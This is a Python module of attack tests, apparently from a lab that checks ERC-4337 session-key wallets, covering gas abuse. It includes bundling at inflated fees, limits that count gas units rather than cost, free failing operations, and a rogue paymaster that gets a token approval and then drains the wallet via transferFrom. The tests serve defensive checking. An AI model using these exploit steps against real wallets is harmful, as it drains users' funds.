"""Attacks on gas: burning the wallet's ETH, or having another pay."""

from __future__ import annotations

from sessionlab.attacks.attack import attack
from sessionlab.attacks.attack_lab import (
    COUNTER,
    DEPOSIT,
    ETHER,
    GAS,
    INCREMENT,
    PAYMASTER,
    SESSION,
    STRANGER,
    TOKEN,
    WALLET,
    Scene,
    deposit_of,
    left,
    tokens,
)
from sessionlab.attacks.gains import counts, units
from sessionlab.attacks.operations import act, install, operation, send, signed, transact
from sessionlab.core.contracts.artifacts import artifact
from sessionlab.core.erc4337.user_operation import ENTRY_POINT
from sessionlab.core.erc4337.wallet_encoding import RawCall
from sessionlab.core.evm.records import DELEGATION
from sessionlab.core.permissions import ContractAccess, GasLimit
from sessionlab.core.permissions.kinds import LimitKind

KEY = "the session key"
ACCESS = ContractAccess(address=COUNTER)
PING = [RawCall(COUNTER, data=INCREMENT)]
FAIL = [RawCall(COUNTER, data=artifact("Counter").encode("fail"))]
PRICE = GAS["max_fee_per_gas"]
EACH = GAS["verification_gas_limit"] + GAS["call_gas_limit"] + GAS["pre_verification_gas"]


def limit_for(scene: Scene, operations: int) -> GasLimit:
    """A gas-limit worth so many operations of this scene: in gas, or in wei under the deployed rules."""
    return GasLimit(limit=operations * EACH * (1 if scene.rules.gas_limit_counts_gas else PRICE))


@attack(
    "gas",
    holds="the session key and a bundler",
    gain="about 1.06 ETH of fees for one operation",
    source="Openfort audit OF-1, high; about 11.8 ETH were lost from 300 wallets in July 2026",
    passes=("documented", "deployed"),
)
def own_bundler(scene: Scene) -> str:
    """No gas-limit is granted: the thief bundles its own operation at 1,000 times the price. The audit says so."""
    install(scene, [ACCESS])
    before = deposit_of(scene)
    act(scene, PING, max_fee_per_gas=1_000 * PRICE, max_priority_fee_per_gas=1_000 * PRICE, pre_verification_gas=10**6)
    lost = before - deposit_of(scene)
    return f"{lost:,} wei of fees" if lost > EACH * PRICE else ""


@attack("gas", holds="the session key and a bundler", gain="gas over the limit", source="Openfort audit OF-1, high")
def own_bundler_under_a_limit(scene: Scene) -> str:
    """The same under a gas-limit: whatever limits and prices the bundler sets, the allowance ends."""
    install(scene, [limit_for(scene, 2), ACCESS])
    before = deposit_of(scene)
    for more in (0, 10**6, 4 * 10**6):
        act(scene, PING, pre_verification_gas=GAS["pre_verification_gas"] + more)
    for _ in range(4):
        act(scene, PING)
    lost = before - deposit_of(scene)
    return f"{lost:,} wei of fees" if lost > 2 * EACH * PRICE else ""


@attack(
    "gas",
    holds="the session key and a bundler",
    gain="fees at any price: the limit counts units",
    source="SmartSession audit, ChainLight CL-001",
    passes=("documented",),
)
def price_not_units(scene: Scene) -> str:
    """The limit counts gas and not what it costs: 1,000 times the price. The audit reckons the worst case in ETH."""
    install(scene, [limit_for(scene, 1), ACCESS])
    before = deposit_of(scene)
    act(scene, PING, max_fee_per_gas=1_000 * PRICE, max_priority_fee_per_gas=1_000 * PRICE)
    lost = before - deposit_of(scene)
    return f"{lost:,} wei of fees" if lost > EACH * PRICE else ""


@attack("gas", holds=KEY, gain="gas without end", source="any budget that a revert gives back")
def fail_for_free(scene: Scene) -> str:
    """Operations that fail cost the wallet gas: each must use up the allowance."""
    install(scene, [limit_for(scene, 2), ACCESS])
    limit = left(scene, LimitKind.GAS)
    included = sum(bool(act(scene, FAIL).included) for _ in range(4))
    free = included * limit // 2 > limit - left(scene, LimitKind.GAS)
    return f"{included} operations, where the limit is worth 2" if free else ""


@attack("gas", holds="the session key and a paymaster", gain="tokens", source="264,000 USD were lost in July 2026")
def paymaster_swap(scene: Scene) -> str:
    """The operation names the attacker's paymaster: validation must change nothing of the wallet's."""
    install(scene, [limit_for(scene, 1), ACCESS])
    before = (tokens(scene, WALLET), scene.chain.balance(WALLET), deposit_of(scene), left(scene, LimitKind.GAS))
    for _ in range(3):
        act(scene, PING, paymaster=PAYMASTER, paymaster_verification_gas_limit=100_000)
    after = (tokens(scene, WALLET), scene.chain.balance(WALLET), deposit_of(scene), left(scene, LimitKind.GAS))
    approved = scene.chain.call(TOKEN, artifact("Token").encode("allowance", WALLET, PAYMASTER)).output
    return f"{before} became {after}" if before != after or any(approved) else ""


@attack("gas", holds=KEY, gain="more gas than the wallet has", source="ERC-4337, prefund")
def more_than_the_deposit(scene: Scene) -> str:
    """An operation that may cost more than the wallet has anywhere: others' deposits would pay for it."""
    install(scene, [ACCESS])
    act(scene, PING, max_fee_per_gas=10**15, max_priority_fee_per_gas=0)
    return counts(scene) or ("" if deposit_of(scene) == DEPOSIT else "the deposit moved")


@attack("gas", holds="an account of its own", gain="the wallet's deposit", source="ERC-4337, withdrawTo")
def withdraw_of_another(scene: Scene) -> str:
    """A stranger asks the EntryPoint for deposits that are not its own."""
    made = artifact("EntryPoint")
    transact(scene, STRANGER, ENTRY_POINT, made.encode("withdrawTo", STRANGER.address, DEPOSIT))
    transact(scene, STRANGER, ENTRY_POINT, made.encode("withdrawTo", STRANGER.address, 1))
    return "" if deposit_of(scene) == DEPOSIT else "the deposit moved"


@attack("gas", holds=KEY, gain="a free operation", source="ERC-4337, verificationGasLimit")
def too_little_verification_gas(scene: Scene) -> str:
    """Validation is given less gas than it takes, so that a bundler would pay the rest."""
    install(scene, [ACCESS])
    op = operation(scene, PING, verification_gas_limit=3_000)
    send(scene, signed(scene, op, SESSION))
    return counts(scene)


@attack(
    "gas",
    holds="the session key and a paymaster",
    gain="all tokens",
    source="264,000 USD were lost in July 2026 (Lumi Finance)",
)
def paymaster_approval(scene: Scene) -> str:
    """Validation approves the paymaster that is named, for the token that its data name: the thief is it."""
    install(scene, [ACCESS])
    scene.chain.set_code(STRANGER.address, DELEGATION + bytes.fromhex(PAYMASTER[2:]))
    transact(scene, STRANGER, ENTRY_POINT, artifact("EntryPoint").encode("depositTo", STRANGER.address), ETHER)
    named = bytes.fromhex(TOKEN[2:])
    act(
        scene,
        PING,
        paymaster=STRANGER.address,
        paymaster_verification_gas_limit=100_000,
        paymaster_data=named,
    )
    everything = tokens(scene, WALLET)
    take = artifact("Token").encode("transferFrom", WALLET, STRANGER.address, everything)
    transact(scene, STRANGER, TOKEN, take)
    return units(scene)
